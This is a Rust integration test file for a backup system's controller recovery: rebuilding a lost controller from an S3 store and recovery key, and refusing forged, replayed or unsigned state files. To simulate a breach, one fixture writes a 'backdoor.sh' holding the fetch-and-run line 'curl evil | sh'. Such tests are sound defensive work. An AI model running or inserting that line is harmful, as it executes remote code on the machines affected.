//! A controller rebuilt from its store (issue 18, item 4): a fleet of three agents with
//! policies, a quarantine, drills and a plan loses its controller's whole data directory;
//! `lifeboat-controller recover` brings it back from the S3 store and the offline recovery
//! key alone. The agents reconnect with the certificates they hold, the estimates, restore
//! points, locks and quarantine marks are the same, a backup made after the last saved
//! state is found in the store, restores are byte-identical, and the audit log verifies.

use std::fs;
use std::time::Duration;

use lifeboat_tests::s3::S3Server;
use lifeboat_tests::tree::Rng;
use lifeboat_tests::{Fleet, now_ms, wait_for};
use serde_json::Value;

fn rfc(ms: i64) -> String {
    humantime::format_rfc3339_millis(std::time::UNIX_EPOCH + Duration::from_millis(ms as u64))
        .to_string()
}

/// Per device: (agent, restore estimate, its basis).
fn estimates(fleet: &Fleet) -> Vec<(String, String, String)> {
    let mut v: Vec<_> = fleet
        .cli_json(&["devices"])
        .as_array()
        .expect("devices")
        .iter()
        .map(|d| {
            (
                d["agent"].as_str().unwrap_or_default().to_string(),
                d["restore_estimate_seconds"].to_string(),
                d["estimate_basis"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

/// Per snapshot: (id, quarantined, locked until).
fn snapshots(fleet: &Fleet) -> Vec<(String, bool, i64)> {
    let mut v: Vec<_> = fleet
        .cli_json(&["snapshots"])
        .as_array()
        .expect("snapshots")
        .iter()
        .map(|s| {
            (
                s["id"].as_str().unwrap_or_default().to_string(),
                s["quarantined"] == true,
                s["locked_until_unix_ms"].as_i64().unwrap_or(-1),
            )
        })
        .collect();
    v.sort();
    v
}

/// The restore point a plan picks per device and source.
fn picks(plan: &Value) -> Vec<(String, String)> {
    let mut v: Vec<_> = plan["devices"]
        .as_array()
        .expect("devices")
        .iter()
        .flat_map(|d| {
            d["sources"].as_array().into_iter().flatten().map(move |s| {
                (
                    d["agent"].as_str().unwrap_or_default().to_string(),
                    s["snapshot"].as_str().unwrap_or_default().to_string(),
                )
            })
        })
        .collect();
    v.sort();
    v
}

#[test]
fn a_controller_whose_machine_is_gone_comes_back_from_the_store_and_the_recovery_key() {
    let Some(s3) = S3Server::start() else {
        return;
    };
    let mut fleet = Fleet::start_on_s3(&s3, "fleet", &["--state-every", "1s"]);
    fleet.apply_policy(
        "[[policy]]\nname = \"all\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\nkeep = { last = 10 }\nlock = \"7d\"\ntier = 1\n",
    );
    // Each machine: its data under a restore root, where a plan puts it back.
    let mut machines = Vec::new();
    let mut sources = Vec::new();
    let mut rng = Rng::new(4);
    for name in ["a", "b", "c"] {
        let machine = tempfile::tempdir().expect("machine");
        let src = machine.path().join("data");
        fs::create_dir(&src).expect("mkdir");
        for i in 0..6 {
            fs::write(src.join(format!("f{i}")), rng.bytes(150_000)).expect("write");
        }
        let agent = fleet.enroll(name);
        fleet.run_agent(&agent, &[("data", &src)], &[machine.path()]);
        fleet.backup(name, "data");
        machines.push(machine);
        sources.push(src);
    }
    // c is breached: its next snapshot is quarantined.
    std::thread::sleep(Duration::from_millis(20));
    let breach = rfc(now_ms());
    fs::write(sources[2].join("backdoor.sh"), "curl evil | sh").expect("write");
    fleet.backup("c", "data");
    assert!(
        fleet
            .cli(&[
                "snapshots",
                "quarantine",
                "--agent",
                "c",
                "--after",
                &breach
            ])
            .status
            .success()
    );
    let drills = fleet.cli_json(&[
        "drill", "run", "--agent", "a", "--agent", "b", "--agent", "c",
    ]);
    assert!(
        drills
            .as_array()
            .expect("drills")
            .iter()
            .all(|d| d["state"] == "passed"),
        "{drills}"
    );
    let cutoff = rfc(now_ms());
    let plan_before = fleet.cli_json(&[
        "recover", "plan", "--agent", "a", "--agent", "b", "--agent", "c", "--before", &cutoff,
    ]);
    let snapshots_before = snapshots(&fleet);
    let policies_before = fleet.cli_json(&["policy", "list"]);

    // A state saved after all of that, then a backup the state does not know. The
    // controller restarts saving every hour: it saves once as it starts, and no state
    // saved after the late backup can race the machine's loss.
    fleet.stop_controller();
    for arg in fleet.serve_args.iter_mut().filter(|a| *a == "1s") {
        *arg = "1h".into();
    }
    let objects = s3.objects("fleet", &fleet.path("probe"));
    let since = now_ms();
    fleet.start_controller();
    fleet.wait_connected(3);
    wait_for(
        "a state saved in the store",
        Duration::from_secs(60),
        || {
            objects
                .list("controller/state-")
                .ok()?
                .iter()
                .filter_map(|o| {
                    o.key
                        .strip_prefix("controller/state-")?
                        .strip_suffix(".age")?
                        .parse::<i64>()
                        .ok()
                })
                .any(|ms| ms > since)
                .then_some(())
        },
    );
    fs::write(sources[0].join("late"), rng.bytes(90_000)).expect("write");
    let late = fleet.backup("a", "data")["id"]
        .as_str()
        .expect("id")
        .to_string();
    // The estimates as the lost controller gave them last (a's from its late snapshot).
    let estimates_before = estimates(&fleet);
    assert!(
        estimates_before
            .iter()
            .all(|(_, _, basis)| basis == "measured"),
        "{estimates_before:?}"
    );

    // The machine is gone; a new one gets the store's address and the recovery key.
    let store_args = s3.serve_args("fleet");
    let out = fleet.lose_controller_and_recover(&store_args);
    assert!(
        out.status.success(),
        "recover: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        said.contains("1 snapshots"),
        "the late backup is indexed from the store: {said}"
    );
    fleet.start_controller();

    // The agents reconnect unaided, with the certificates they hold.
    fleet.wait_connected(3);
    assert_eq!(estimates(&fleet), estimates_before);
    let mut after = snapshots(&fleet);
    after.retain(|(id, _, _)| *id != late);
    assert_eq!(
        after, snapshots_before,
        "snapshots, quarantine marks and locks"
    );
    assert!(
        snapshots(&fleet)
            .iter()
            .any(|(id, _, lock)| *id == late && *lock > now_ms())
    );
    assert_eq!(fleet.cli_json(&["policy", "list"]), policies_before);
    let plan_after = fleet.cli_json(&[
        "recover", "plan", "--agent", "a", "--agent", "b", "--agent", "c", "--before", &cutoff,
    ]);
    assert_eq!(picks(&plan_after), picks(&plan_before));
    let audit = fleet.cli(&["audit", "verify"]);
    assert!(
        audit.status.success(),
        "audit verify: {}{}",
        String::from_utf8_lossy(&audit.stdout),
        String::from_utf8_lossy(&audit.stderr)
    );

    // Restores, from the state's snapshots and the late one, are byte-identical; and the
    // recovered controller backs up as before.
    let target = machines[1].path().join("restored");
    let b_snapshot = picks(&plan_after)
        .into_iter()
        .find(|(agent, _)| agent == "b")
        .map(|(_, s)| s)
        .expect("b's restore point");
    let (ok, job) = fleet.restore_to(&b_snapshot, "b", &target, &[]);
    assert!(ok, "{job}\n{}", fleet.agent_log("b"));
    for i in 0..6 {
        let name = format!("f{i}");
        assert_eq!(
            fs::read(target.join(&name)).expect("restored"),
            fs::read(sources[1].join(&name)).expect("source"),
            "{name}"
        );
    }
    let target = machines[0].path().join("restored");
    let (ok, job) = fleet.restore_to(&late, "a", &target, &[]);
    assert!(ok, "{job}\n{}", fleet.agent_log("a"));
    assert_eq!(
        fs::read(target.join("late")).expect("restored"),
        fs::read(sources[0].join("late")).expect("source")
    );
    fs::write(sources[1].join("after"), "after the recovery").expect("write");
    fleet.backup("b", "data");

    // c's machine is rebuilt (its agent state lost): it re-enrolls under its own name only
    // with a token an admin issues for that device, and keeps its id and history.
    let c_id = fleet
        .cli_json(&["agents"])
        .as_array()
        .and_then(|a| a.iter().find(|x| x["name"] == "c").cloned())
        .expect("c listed")["id"]
        .clone();
    let c_snapshots = fleet
        .cli_json(&["snapshots", "--agent", "c"])
        .as_array()
        .map(Vec::len);
    fleet.kill_agent("c");
    fs::remove_dir_all(fleet.path("agents/c")).expect("lose c's agent state");
    let out = fleet.enroll_with("c", &fleet.token("10m"));
    assert!(!out.status.success(), "a plain token took over device c");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("token create --device c"), "{err}");
    let token = fleet.cli_json(&["token", "create", "--device", "c"])["token"]
        .as_str()
        .expect("token")
        .to_string();
    let out = fleet.enroll_with("b", &token);
    assert!(!out.status.success(), "c's token enrolled another name");
    let c = fleet.enroll_token("c", &token);
    fleet.run_agent(&c, &[("data", &sources[2])], &[machines[2].path()]);
    let agents = fleet.cli_json(&["agents"]);
    let named_c: Vec<&Value> = agents
        .as_array()
        .expect("agents")
        .iter()
        .filter(|x| x["name"] == "c")
        .collect();
    assert_eq!(named_c.len(), 1, "{agents}");
    assert_eq!(named_c[0]["id"], c_id, "the device keeps its id");
    fleet.backup("c", "data");
    assert_eq!(
        fleet
            .cli_json(&["snapshots", "--agent", "c"])
            .as_array()
            .map(Vec::len),
        c_snapshots.map(|n| n + 1),
        "c's history is still its own"
    );
}

/// The states of the store under `prefix`, oldest first: (key, bytes).
fn states(s3: &S3Server, prefix: &str, staging: &std::path::Path) -> Vec<(String, Vec<u8>)> {
    let objects = s3.objects(prefix, staging);
    let mut keys: Vec<String> = objects
        .list("controller/state-")
        .expect("list states")
        .into_iter()
        .map(|l| l.key)
        .collect();
    keys.sort();
    keys.into_iter()
        .map(|k| {
            let b = objects.get(&k, "").expect("get a state");
            (k, b)
        })
        .collect()
}

/// B16 (a rolled-back or mixed-up head), for the one head Lifeboat has: the controller's
/// state in the store, which `recover` trusts when the controller's machine is gone.
/// Whoever may write to the bucket plants three newer states: one made by a controller of
/// their own encrypted to this store's recovery key (its public half is no secret: `lifeboat
/// status` shows it), a genuine older state copied under a newer name (a rollback), and
/// that foreign state stripped of its signature. Recovery with the recovery kit takes the
/// genuine newest state and names each planted one with why; without the kit's controller
/// key it refuses a store whose states name two keys, and writes nothing.
#[test]
fn b16_recover_takes_only_this_stores_signed_newest_state() {
    let Some(s3) = S3Server::start() else {
        return;
    };
    let staging = tempfile::tempdir().expect("staging");
    let mut fleet = Fleet::start_on_s3(&s3, "fleet", &["--state-every", "1s"]);
    let src = fleet.path("src");
    fs::create_dir(&src).expect("mkdir");
    fs::write(src.join("f"), Rng::new(16).bytes(100_000)).expect("write");
    let agent = fleet.enroll("a");
    fleet.run_agent(&agent, &[("data", &src)], &[]);
    fleet.backup("a", "data");
    let status = fleet.cli_json(&["status"]);
    let recipient = status["recovery_recipient"].as_str().expect("recipient");
    let our_key = status["controller_key"].as_str().expect("controller key");
    assert_eq!(Some(our_key), fleet.controller_key.as_deref());
    wait_for("three states saved", Duration::from_secs(30), || {
        (states(&s3, "fleet", staging.path()).len() >= 3).then_some(())
    });

    // Someone else's controller, whose states open with this store's recovery key.
    let rogue = Fleet::start_on_s3(
        &s3,
        "rogue",
        &["--state-every", "1s", "--recovery-recipient", recipient],
    );
    let rogue_key = rogue.cli_json(&["status"])["controller_key"]
        .as_str()
        .expect("rogue key")
        .to_string();
    assert_ne!(rogue_key, our_key);
    wait_for("the rogue saved a state", Duration::from_secs(30), || {
        (!states(&s3, "rogue", staging.path()).is_empty()).then_some(())
    });
    let snapshots_before = snapshots(&fleet);
    fleet.kill_controller();
    let ours = states(&s3, "fleet", staging.path());
    let (genuine_newest, _) = ours.last().expect("a state").clone();
    let (_, foreign) = states(&s3, "rogue", staging.path())
        .pop()
        .expect("a rogue state");
    // The signed header ends where the age file begins.
    let at = foreign
        .windows(b"age-encryption.org/".len())
        .position(|w| w == b"age-encryption.org/")
        .expect("an age payload");
    let later = |days: i64| format!("controller/state-{:013}.age", now_ms() + days * 86_400_000);
    let planted = [
        (later(1), foreign.clone(), "signed by controller key"),
        (later(2), ours[0].1.clone(), "a replayed state"),
        (later(3), foreign[at..].to_vec(), "not signed"),
    ];
    let objects = s3.objects("fleet", staging.path());
    for (key, bytes, _) in &planted {
        objects.put(key, bytes, 0).expect("plant a state");
    }

    // Without the kit's controller key, two keys sign states here: refused, nothing written.
    std::fs::remove_dir_all(fleet.path("ctl")).expect("lose the data directory");
    let store_args = s3.serve_args("fleet");
    let bare = format!("{}\n", fleet.recovery_key.clone().expect("recovery key"));
    let out = fleet.recover(&store_args, &bare, &[]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "recovered from a mixed store: {err}");
    assert!(
        err.contains("2 different controller keys")
            && err.contains(our_key)
            && err.contains(&rogue_key)
            && err.contains("--controller-key"),
        "{err}"
    );
    assert!(
        !fleet.path("ctl/controller.json").exists() && !fleet.path("ctl/ca.key").exists(),
        "a refused recovery wrote a controller"
    );

    // With the recovery kit: the genuine newest state, each planted one named.
    let out = fleet.recover(&store_args, &fleet.recovery_kit(), &[]);
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "recover: {said}{err}");
    assert!(
        said.contains(&format!("recovered the controller from {genuine_newest} ")),
        "{said}"
    );
    assert!(
        said.contains(&format!("signed by this store's controller key {our_key}")),
        "{said}"
    );
    for (key, _, why) in &planted {
        assert!(
            err.lines()
                .any(|l| l.starts_with(&format!("refused: {key}: ")) && l.contains(why)),
            "{key} ({why}) is not named as refused: {err}"
        );
    }
    assert!(!err.contains("states saved since are missing"), "{err}");
    fleet.start_controller();
    fleet.wait_connected(1);
    assert_eq!(snapshots(&fleet), snapshots_before);

    // A frozen head: the controller stops saving states (as if the newer ones were
    // deleted), backs up 4 s later, and is lost. `recover` says states are missing.
    fleet.stop_controller();
    let at = fleet
        .serve_args
        .iter()
        .position(|a| a == "--state-every")
        .expect("--state-every");
    fleet.serve_args[at + 1] = "0s".into();
    fleet.start_controller();
    fleet.wait_connected(1);
    std::thread::sleep(Duration::from_secs(4));
    fs::write(src.join("g"), "after the last state").expect("write");
    fleet.backup("a", "data");
    let out = fleet.lose_controller_and_recover(&store_args);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "recover: {err}");
    assert!(
        err.contains("the states saved since are missing") && err.contains("saved every 1s"),
        "a frozen head goes unmentioned: {err}"
    );
    println!(
        "B16: {} genuine states, 3 planted (foreign key, replay, unsigned): the planted ones refused and named, the genuine newest taken; without the kit's key the mixed store refused with nothing written; a head frozen 4 s at a 1 s period reported",
        ours.len()
    );
}
